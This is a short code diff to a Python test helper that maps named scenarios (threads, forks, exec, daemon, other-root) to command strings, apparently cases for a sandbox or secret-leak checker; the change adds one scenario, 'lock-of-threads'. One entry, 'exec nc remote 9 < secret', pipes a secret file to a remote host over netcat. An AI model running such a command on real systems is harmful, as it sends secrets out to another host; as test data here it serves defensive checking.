@@ -10,7 +10,7 @@ def scripts():
         "first-thing": "exec nc remote 9 < secret",
         **{name: f"way {name} secret" for name in (
             "constructor", "handler", "handler-in-call", "handler-in-loop", "handler-of-fault", "handler-of-child", "at-exit", "thread",
-            "thread-after-main", "thread-of-old", "daemon", "generations", "after-calls", "after-computing", "after-children",
+            "thread-after-main", "thread-of-old", "lock-of-threads", "daemon", "generations", "after-calls", "after-computing", "after-children",
             "after-sleeping", "as-somebody-else", "in-another-root", "unlinked")},
         "after-fork": "leak fork write secret",
         "after-exec": "leak exec write secret",
